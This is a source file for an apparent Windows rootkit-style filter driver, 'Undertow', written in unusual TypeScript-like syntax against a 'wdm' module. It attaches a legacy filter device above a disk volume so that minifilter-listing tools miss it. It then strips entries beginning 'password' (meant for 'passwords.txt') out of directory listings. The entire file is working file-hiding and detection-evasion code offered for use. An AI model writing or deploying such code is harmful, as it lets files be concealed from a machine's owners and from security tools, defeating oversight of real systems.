/*
 * Undertow: hides a file from above the file system, without the filter manager.
 *
 * Before there were minifilters, a filter was a device on top of the volume's. That still works, and
 * no tool that lists minifilters shows it. On its way back each list of a folder passes here; the
 * completion routine takes the file out of it.
 */
import {
  DO_DEVICE_INITIALIZING,
  FALSE,
  FILE_BOTH_DIR_INFORMATION,
  FILE_DEVICE_DISK_FILE_SYSTEM,
  FileBothDirectoryInformation,
  IRP_MJ_DIRECTORY_CONTROL,
  IRP_MJ_MAXIMUM_FUNCTION,
  IRP_MN_QUERY_DIRECTORY,
  IoAttachDevice,
  IoCallDriver,
  IoCopyCurrentIrpStackLocationToNext,
  IoCreateDevice,
  IoDeleteDevice,
  IoGetCurrentIrpStackLocation,
  IoMarkIrpPending,
  IoSetCompletionRoutine,
  IoSkipCurrentIrpStackLocation,
  NT_SUCCESS,
  RTL_CONSTANT_STRING,
  STATUS_SUCCESS,
  TRUE,
  addressof,
  cast,
  out,
} from 'wdm'
import type { DEVICE_OBJECT, DRIVER_OBJECT, IRP, NTSTATUS, PVOID, UNICODE_STRING } from 'wdm'

let lower: DEVICE_OBJECT = null
let own: DEVICE_OBJECT = null

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  for (let i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) DriverObject.MajorFunction[i] = UndertowPass
  DriverObject.MajorFunction[IRP_MJ_DIRECTORY_CONTROL] = UndertowDirectoryControl
  // No DriverUnload: a legacy filter cannot leave safely, a packet may be under way below it.
  const device = out<DEVICE_OBJECT>()
  let status = IoCreateDevice(DriverObject, 0, null, FILE_DEVICE_DISK_FILE_SYSTEM, 0, FALSE, device)
  if (!NT_SUCCESS(status)) return status
  own = device.value
  const below = out<DEVICE_OBJECT>()
  status = IoAttachDevice(own, RTL_CONSTANT_STRING('\\Device\\HarddiskVolume1'), below)
  if (!NT_SUCCESS(status)) {
    IoDeleteDevice(own)
    return status
  }
  lower = below.value
  own.Flags &= ~DO_DEVICE_INITIALIZING
  return STATUS_SUCCESS
}

function UndertowPass(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  IoSkipCurrentIrpStackLocation(Irp)
  return IoCallDriver(lower, Irp)
}

function UndertowDirectoryControl(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  const request = IoGetCurrentIrpStackLocation(Irp)
  const isKnown =
    request.MinorFunction === IRP_MN_QUERY_DIRECTORY &&
    request.Parameters.QueryDirectory.FileInformationClass === FileBothDirectoryInformation
  if (!isKnown) return UndertowPass(DeviceObject, Irp)
  IoCopyCurrentIrpStackLocationToNext(Irp)
  IoSetCompletionRoutine(Irp, UndertowListed, null, TRUE, FALSE, FALSE)
  return IoCallDriver(lower, Irp)
}

function UndertowListed(DeviceObject: DEVICE_OBJECT, Irp: IRP, Context: PVOID): NTSTATUS {
  if (Irp.PendingReturned) IoMarkIrpPending(Irp)
  // The first entry of a folder is '.', so the file always has one in front of it.
  let entry = cast(FILE_BOTH_DIR_INFORMATION, Irp.UserBuffer)
  while (entry.NextEntryOffset !== 0) {
    const next = cast(FILE_BOTH_DIR_INFORMATION, entry.add(entry.NextEntryOffset))
    if (!IsTheFile(next)) entry = next
    else if (next.NextEntryOffset === 0) entry.NextEntryOffset = 0
    else entry.NextEntryOffset += next.NextEntryOffset
  }
  return STATUS_SUCCESS
}

/** Whether an entry is the file: 'passwords.txt', of which eight letters do. */
function IsTheFile(Entry: FILE_BOTH_DIR_INFORMATION): boolean {
  if (Entry.FileNameLength < 16) return false
  const name = addressof(Entry.FileName)
  return name.u64[0] === 0x0073007300610070n && name.u64[1] === 0x00640072006f0077n
}
